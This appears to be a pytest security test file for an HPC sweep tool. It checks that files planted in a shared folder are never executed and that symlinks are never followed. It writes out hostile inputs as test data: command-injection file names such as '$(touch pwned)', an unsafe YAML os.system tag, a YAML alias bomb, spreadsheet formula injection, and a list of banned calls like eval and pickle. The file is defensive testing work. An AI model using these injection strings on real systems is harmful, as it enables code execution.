"""A sweep's folder may be one that others write to: nothing there is executed, and no planted link is followed.

What a job script itself writes is in test_quoting.py and test_scripts.py, whole files in test_files.py.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from hpcjobs.base import lock
from hpcjobs.base.lock import Locked
from hpcjobs.base.sweepdir import SweepDir
from hpcjobs.engine.journal import locked
from tests.control import sweeps
from tests.control.logs import attempt, train_log
from tests.control.odd_words import rendered
from tests.control.sweeps import append
from tests.running import PATIENCE_S, hpcjobs

PACKAGE = Path(lock.__file__).parents[1]


@pytest.fixture
def ended(tmp_path: Path) -> Path:
    """The folder of a sweep whose run on 1 GPU measured, and whose run on 2 failed."""
    return sweeps.ended(tmp_path / "o", (1, 2), failed=2, says="RuntimeError: boom\n")


# --- what the code itself may not do ---------------------------------------------------------------

# Workers of one invocation hand the recipe to each other in the folder that it makes and locks.
PICKLES = {"chexnet/data/workshop.py"}


def calls(tree: ast.AST) -> Iterator[tuple[str, ast.Call]]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


def test_no_data_becomes_code() -> None:
    """No YAML but by safe loaders, no pickle, no eval, no shell, anywhere in the package."""
    sources = {str(path.relative_to(PACKAGE)): ast.parse(path.read_text()) for path in PACKAGE.rglob("*.py")}
    assert len(sources) > 50
    for path, tree in sources.items():
        own = {
            each.name
            for each in ast.walk(tree)
            if isinstance(each, ast.ClassDef) and "yaml.SafeLoader" in map(ast.unparse, each.bases)
        }
        for name, call in calls(tree):
            given = {word.arg: ast.unparse(word.value) for word in call.keywords}
            bad = (
                name in ("eval", "exec", "compile", "__import__", "os.system", "os.popen")
                or given.get("shell", "False") != "False"
            )
            bad |= name.startswith(("yaml.unsafe", "yaml.full", "marshal.", "shelve.", "os.spawn", "os.exec"))
            bad |= given.get("allow_pickle", "False") != "False"
            bad |= name.split(".")[0] in ("pickle", "dill", "joblib", "cloudpickle") and path not in PICKLES
            bad |= name == "yaml.load" and given["Loader"] not in {
                *own,
                "getattr(yaml, 'CSafeLoader', yaml.SafeLoader)",
            }
            assert not bad, f"{path}:{call.lineno}: {ast.unparse(call)}"


# --- planted in a sweep's folder -------------------------------------------------------------------

SPY = """\
#!/bin/sh
touch "$(dirname "$0")/pwned"
"""


def plant(root: Path) -> None:
    """Programs under every name that something might run, import or load, and names that a shell would run."""
    for folder in (root, root / "runs" / "g0001-r01", root / "runs" / "g0001-r01" / "a001", root / "scripts"):
        for name in ("python", "git", "sacct", "squeue", "hpcjobs", "sh"):
            (folder / name).write_text(SPY)
            (folder / name).chmod(0o755)
        for name in ("yaml", "click", "sitecustomize", "usercustomize", "conftest", "hpcjobs_plugin", "json"):
            (folder / f"{name}.py").write_text(f"open({str(root / 'pwned')!r}, 'w')\n")
        for name in ("$(touch pwned)", "`touch pwned`", "; touch pwned", "-rf", "a002\ntouch pwned", "*"):
            (folder / name).write_text("x")
    here = root / "runs" / "g0001-r01" / "a001"
    (here / "node-$(touch pwned).json").write_text('{"host": "$(touch pwned)", "cpus": 1}')
    (here / "nvml-`touch pwned`.csv").write_text("time,gpu\n$(touch pwned),1\n")
    (root / "runs" / "$(touch pwned)-r01").mkdir()


def no_traces(*folders: Path) -> bool:
    return not [path for folder in folders for path in folder.rglob("*pwned*") if path.name == "pwned"]


@pytest.mark.parametrize("command", ["status", "collect", "report"])
def test_nothing_in_the_folder_is_executed(command: str, ended: Path) -> None:
    plant(ended)
    # As a user would, from within the folder; a console script does not look for modules there.
    words = [Path(sys.executable).with_name("hpcjobs"), command, ".", "--json"]
    done = subprocess.run(words, cwd=ended, capture_output=True, text=True, timeout=PATIENCE_S)
    assert len(json.loads(done.stdout)) == 2, done.stderr
    assert no_traces(ended)


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system ['touch pwned']", "&a [*a, *a]"])
@pytest.mark.parametrize("which", ["run.yaml", "sweep.yaml"])
@pytest.mark.parametrize("command", ["status", "report"])
def test_yaml_that_names_code_is_a_mistake_in_one_line(command: str, which: str, tag: str, ended: Path) -> None:
    path = ended / which if which == "sweep.yaml" else ended / "runs" / "g0001-r01" / which
    path.write_text(f"version: 1\nsweep: {tag}\n")
    done = hpcjobs(command, str(ended), cwd=ended, code=None)
    assert "Traceback" not in done.stderr
    assert no_traces(ended)
    if which == "sweep.yaml":
        assert (done.returncode, len(done.stderr.splitlines())) == (2, 1)


def test_a_collecting_job_imports_nothing_from_the_sweeps_folder(ended: Path) -> None:
    """Python looks for modules in the working folder first, when it is started with -m."""
    text = sweeps.written(ended.parent / "slurm", (1, 2), "virtual").where.script("collect").read_text()
    text = text.replace(str(ended.parent / "slurm"), str(ended))
    plant(ended)
    done = subprocess.run(["bash", "-c", text], cwd=ended, capture_output=True, text=True)
    assert no_traces(ended)
    assert (done.returncode, (ended / "report" / "runs.csv").exists()) == (0, True), done.stderr


def test_no_cell_of_a_table_is_a_formula(ended: Path) -> None:
    """A spreadsheet runs a cell that begins with = + - or @."""
    here = ended / "runs" / "g0001-r01" / "a001"
    formula = '=HYPERLINK("http://x/"&A1)'
    claim = json.loads((here / "claim").read_text())
    (here / "claim").write_text(json.dumps({**claim, "nodelist": formula, "job": "@SUM(1)"}))
    (here / "auc.csv").write_text(f'split,class,auc\ntest,"{formula.replace(chr(34), chr(34) * 2)}",+1+1\n')
    hpcjobs("report", str(ended), cwd=ended)
    for path in sorted((ended / "report").glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], path


# --- planted links ---------------------------------------------------------------------------------


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Path]:
    """A file elsewhere that must stay as it is."""
    path = tmp_path / "victim" / "precious"
    path.parent.mkdir()
    path.write_text("precious")
    path.chmod(0o640)
    yield path
    assert (path.read_text(), stat.S_IMODE(path.stat().st_mode)) == ("precious", 0o640)
    assert [entry.name for entry in path.parent.iterdir()] == ["precious"]


REPORTS = ["runs.csv", "auc.csv", "scaling-report.csv", "scaling.png", "scaling.svg"]


def test_links_in_place_of_tables_and_figures_are_replaced(ended: Path, victim: Path) -> None:
    (ended / "report").mkdir()
    for name in REPORTS:
        (ended / "report" / name).symlink_to(victim)
    hpcjobs("report", str(ended), cwd=ended)
    assert {name: (ended / "report" / name).is_symlink() for name in REPORTS} == dict.fromkeys(REPORTS, False)


def test_a_link_in_place_of_the_reports_folder_is_refused(ended: Path, victim: Path) -> None:
    (ended / "report").symlink_to(victim.parent)
    done = hpcjobs("report", str(ended), cwd=ended, code=None)
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    assert "report" in done.stderr


def test_a_link_in_place_of_the_journal_is_refused(ended: Path, victim: Path) -> None:
    (ended / "journal.jsonl").unlink()
    (ended / "journal.jsonl").symlink_to(victim)
    with pytest.raises(OSError, match="symbolic links"):
        append(SweepDir(ended), "cancel", runs=[])


def test_a_link_in_place_of_the_lock_is_not_followed(ended: Path, victim: Path) -> None:
    (ended / "lock").symlink_to(victim)
    with pytest.raises(Locked, match="cannot be read; if nobody works there, remove it"), locked(SweepDir(ended)):
        pass


@pytest.mark.parametrize("name", [".claim.12_0.0", "..claim.12_0.0.part", "claim-s001", "a001"])
@pytest.mark.parametrize("dangling", [False, True])
def test_a_job_writes_through_no_link(name: str, dangling: bool, tmp_path: Path, victim: Path) -> None:
    root, tools = tmp_path / "o", tmp_path / "bin"
    group, run = rendered(root, "c4140", scheduler="local", launcher="mpirun")
    (root / "runs" / run / name).symlink_to(victim.with_name("new") if dangling else victim)
    tools.mkdir()
    (tools / "mpirun").write_text("#!/bin/sh\n")
    (tools / "mpirun").chmod(0o755)
    env = {"PATH": f"{tools}:/usr/bin:/bin", "SLURM_ARRAY_TASK_ID": "0", "SLURM_ARRAY_JOB_ID": "12"}
    words = ["bash", root / "scripts" / f"{group}.sbatch", "1"]
    done = subprocess.run(words, env=env, capture_output=True, text=True, timeout=PATIENCE_S)
    ran = list(root.glob("runs/*/a*/exit.json"))
    assert bool(ran) == (done.returncode == 0 and "is not for job" not in done.stdout), done


def test_links_in_place_of_evidence_are_not_shown(ended: Path, tmp_path: Path) -> None:
    """A line of somebody's private file has no place in a table that others read."""
    private = tmp_path / "private"
    private.write_text("RuntimeError: my secret\n")
    here = ended / "runs" / "g0002-r01" / "a001"
    for name in ("job.log", "train.log"):
        (here / name).unlink(missing_ok=True)
        (here / name).symlink_to(private)
    (ended / "slurm" / "2_0.out").symlink_to(private)
    assert "secret" not in hpcjobs("status", str(ended), cwd=ended, code=1).stdout


FILES = ["job.log", "train.log", "exit.json", "claim", "abort-r000.json", "node-n1.json", "auc.csv", "nvml-n1.csv"]


@pytest.mark.parametrize("kind", ["pipe", "folder"])
def test_what_is_no_file_is_not_waited_for(kind: str, ended: Path) -> None:
    for run, names in (("g0001-r01", set(FILES) - {"train.log", "claim"}), ("g0002-r01", FILES)):
        for name in names:
            path = ended / "runs" / run / "a001" / name
            path.unlink(missing_ok=True)
            if kind == "pipe":
                os.mkfifo(path)
            else:
                path.mkdir()
    runs = json.loads(hpcjobs("collect", str(ended), "--json", cwd=ended, code=None, timeout=PATIENCE_S).stdout)
    assert [run["throughput"] is None for run in runs] == [False, True]


# --- modes -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mask", "files", "folder"), [(0o077, 0o600, 0o700), (0o002, 0o664, 0o775), (0o027, 0o640, 0o750)]
)
def test_all_that_is_written_honours_the_umask(mask: int, files: int, folder: int, tmp_path: Path) -> None:
    before = os.umask(mask)
    try:
        where = sweeps.submitted(sweeps.written(tmp_path / "o", (1, 2)))
        attempt(where.run("g0001-r01") / "a001", job="1_0", log=train_log(gpus=1, batch=4))
        with locked(where):
            assert stat.S_IMODE(where.lock_file.stat().st_mode) == files
        hpcjobs("report", str(tmp_path / "o"), cwd=tmp_path)
    finally:
        os.umask(before)
    found = [path for path in (tmp_path / "o").rglob("*") if "a001" not in path.parts]
    assert len(found) > 15
    for path in [tmp_path / "o", *found]:
        assert stat.S_IMODE(path.stat().st_mode) == (folder if path.is_dir() else files), path
